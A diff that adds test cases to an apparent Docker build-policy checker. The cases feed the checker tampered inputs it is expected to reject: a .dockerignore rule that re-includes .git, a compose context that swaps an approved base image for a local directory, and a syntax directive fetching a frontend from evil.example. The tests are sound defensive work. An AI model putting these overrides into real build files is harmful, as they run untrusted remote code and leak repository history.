@@ -118,6 +118,30 @@ ATTACKS: dict[str, Attack] = {
         1,
         "max-size",
     ),
+    "an exception for the history": Attack(
+        {"Dockerfile": "FROM alpine:3.23\nCOPY . /app\nUSER 1\n", ".dockerignore": ".git\n"},
+        {".dockerignore": ".git\n!.git\n"},
+        (*_BASE, "--fail-on", "CTX103", "."),
+        1,
+        "CTX103",
+    ),
+    "a directory in place of an approved image": Attack(
+        {"api/Dockerfile": "FROM golden/py:1\n", "compose.yaml": "services: {a: {build: api}}\n"},
+        {
+            "compose.yaml": "services: {a: {build: {context: api, additional_contexts: {'golden/py:1': ./own}}}}\n",
+            "own/a": "a",
+        },
+        ("--compose", "compose.yaml", "--approved-base-images", "golden/*"),
+        1,
+        "is not an approved image",
+    ),
+    "a front end of another registry": Attack(
+        {"Dockerfile": "FROM golden/py:1\n"},
+        {"Dockerfile": "# syntax=evil.example/docker/dockerfile:1\nFROM golden/py:1\n"},
+        (".", "--approved-base-images", "golden/*"),
+        1,
+        "is not an approved image",
+    ),
     "a comment": Attack(
         {"Dockerfile": _ALPINE},
         {"Dockerfile": _REASON + _ALPINE},
